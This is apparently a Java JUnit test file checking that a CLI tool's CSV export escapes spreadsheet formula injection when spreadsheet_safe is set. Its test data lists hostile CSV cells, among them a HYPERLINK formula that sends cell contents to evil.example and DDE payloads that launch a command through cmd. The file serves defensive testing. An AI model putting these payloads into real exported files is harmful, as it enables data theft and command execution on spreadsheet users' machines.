package dev.paw.cli;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * CSV injection through {@code export_table}: a table imported from a hostile file holds cells that
 * a spreadsheet would run ({@code =HYPERLINK}, DDE through {@code +cmd|}, {@code @SUM}, tab- and
 * CR-prefixed formulas). The default export gives every value back exactly; {@code
 * spreadsheet_safe=true} neutralises each of them as OWASP advises (a leading single quote, the
 * cell quoted) and leaves plain numbers and other text alone.
 */
class SpreadsheetSafeExportTest {

  private static final List<String> DANGEROUS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
          "+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+9)*cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1",
          "=1+1");
  private static final List<String> HARMLESS =
      List.of("plain", "-12.5", "+3", "1e3", "a=b", "", "'quoted");

  @TempDir Path home;

  @TempDir Path files;

  private Path source;

  @BeforeEach
  void hostileTable() throws Exception {
    StringBuilder csv = new StringBuilder("id,value,=header()\r\n");
    int id = 0;
    for (String value : concat(DANGEROUS, HARMLESS)) {
      csv.append(++id).append(',').append(quoted(value)).append(",x\r\n");
    }
    source = Files.writeString(files.resolve("hostile.csv"), csv.toString());
    assertThat(
            paw(
                "run",
                "csv",
                "import_file",
                "--pocket",
                "Books",
                "-p",
                "file_path=" + source,
                "-p",
                "table_name=hostile"))
        .isZero();
  }

  @Test
  void theDefaultExportGivesEveryValueBackExactly() throws Exception {
    Path out = files.resolve("exact.csv");

    assertThat(
            paw(
                "run",
                "csv",
                "export_table",
                "--pocket",
                "Books",
                "-p",
                "table_name=hostile",
                "-p",
                "output_path=" + out))
        .isZero();

    List<List<String>> rows = read(out);
    assertThat(rows.get(0)).containsExactly("id", "value", "=header()");
    assertThat(rows.subList(1, rows.size()).stream().map(r -> r.get(1)).toList())
        .containsExactlyElementsOf(concat(DANGEROUS, HARMLESS));
  }

  @Test
  void aSpreadsheetSafeExportNeutralisesEveryFormulaAndNothingElse() throws Exception {
    Path out = files.resolve("safe.csv");

    assertThat(
            paw(
                "run",
                "csv",
                "export_table",
                "--pocket",
                "Books",
                "-p",
                "table_name=hostile",
                "-p",
                "output_path=" + out,
                "-p",
                "spreadsheet_safe=true"))
        .isZero();

    List<List<String>> rows = read(out);
    assertThat(rows.get(0)).containsExactly("id", "value", "'=header()");
    List<String> values = rows.subList(1, rows.size()).stream().map(r -> r.get(1)).toList();
    assertThat(values.subList(0, DANGEROUS.size()))
        .containsExactlyElementsOf(DANGEROUS.stream().map(v -> "'" + v).toList());
    assertThat(values.subList(DANGEROUS.size(), values.size())).containsExactlyElementsOf(HARMLESS);
    String text = Files.readString(out, StandardCharsets.UTF_8);
    for (String value : DANGEROUS) {
      assertThat(text)
          .as("quoted: %s", value)
          .contains(",\"'" + value.replace("\"", "\"\"") + "\",");
    }
    for (String line : text.split("\r\n")) {
      String cell = line.substring(line.indexOf(',') + 1);
      assertThat(cell)
          .as("no cell starts a formula")
          .doesNotStartWith("=")
          .doesNotStartWith("@")
          .doesNotStartWith("\"=")
          .doesNotStartWith("\"@")
          .doesNotStartWith("\"+")
          .doesNotStartWith("\"\t");
    }
  }

  private int paw(String... args) {
    String[] all = new String[args.length + 2];
    all[0] = "--home";
    all[1] = home.toString();
    System.arraycopy(args, 0, all, 2, args.length);
    ScriptedTerminal terminal = new ScriptedTerminal(false);
    int exit =
        PawCli.run(
            all,
            terminal,
            Map.of("PAW_MASTER_KEY", "bXktdGVzdC1tYXN0ZXIta2V5LW9mLTMyLWJ5dGVzISE="));
    assertThat(terminal.errors()).isEmpty();
    return exit;
  }

  private static List<List<String>> read(Path file) throws Exception {
    try (CsvReader<CsvRecord> reader = CsvReader.builder().ofCsvRecord(file)) {
      return reader.stream().map(CsvRecord::getFields).toList();
    }
  }

  private static String quoted(String value) {
    return value.isEmpty() ? "\"\"" : "\"" + value.replace("\"", "\"\"") + "\"";
  }

  private static List<String> concat(List<String> a, List<String> b) {
    return java.util.stream.Stream.concat(a.stream(), b.stream()).toList();
  }
}
